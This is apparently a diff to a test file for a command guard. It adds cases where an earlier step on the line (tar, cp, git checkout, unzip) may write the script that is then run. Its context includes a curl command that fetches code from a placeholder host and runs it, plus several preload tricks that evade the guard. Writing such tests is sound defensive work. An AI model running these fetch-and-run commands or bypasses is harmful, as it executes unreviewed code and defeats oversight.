@@ -40,6 +40,11 @@ FORMS = [
     ("echo 'git push' | tee old.sh && sh old.sh", SAME_LINE),
     ("curl -so old.js http://example.invalid/x && node old.js", SAME_LINE),
     ("echo 'git push' > old.sh; source old.sh", SAME_LINE),
+    ('printf x > "pm".py && python3 -m pm', SAME_LINE),
+    ("tar xf a.tar && bash old.sh", "`tar` earlier on the line may write `old.sh`"),
+    ("git checkout other -- . && bash old.sh", "`git checkout` earlier on the line may write `old.sh`"),
+    ("cp -r /tmp/x . && bash old.sh", "`cp` earlier on the line may write `old.sh`"),
+    ("unzip a.zip && python3 -m pm", "module `pm` is not in the repository and `unzip` may write it"),
     ("node -r ./x.js old.js", "`node` preloads a file the guard does not read"),
     ("ruby -r./x old.rb", "`ruby` preloads a file the guard does not read"),
     ("perl -I. old.pl", "`perl -I` puts a folder first on the module path"),
@@ -165,6 +170,10 @@ ORDINARY = [
     "ENV=production node old.js",
     "PATH=/usr/bin:$PATH ls",
     "crontab -l",
+    "bash old.sh && tar xf a.tar",
+    "cp a.txt b.txt && bash old.sh",
+    "git status && bash old.sh",
+    "python3 -m json.tool f.json > out.json",
     "node old.js",
 ]
 
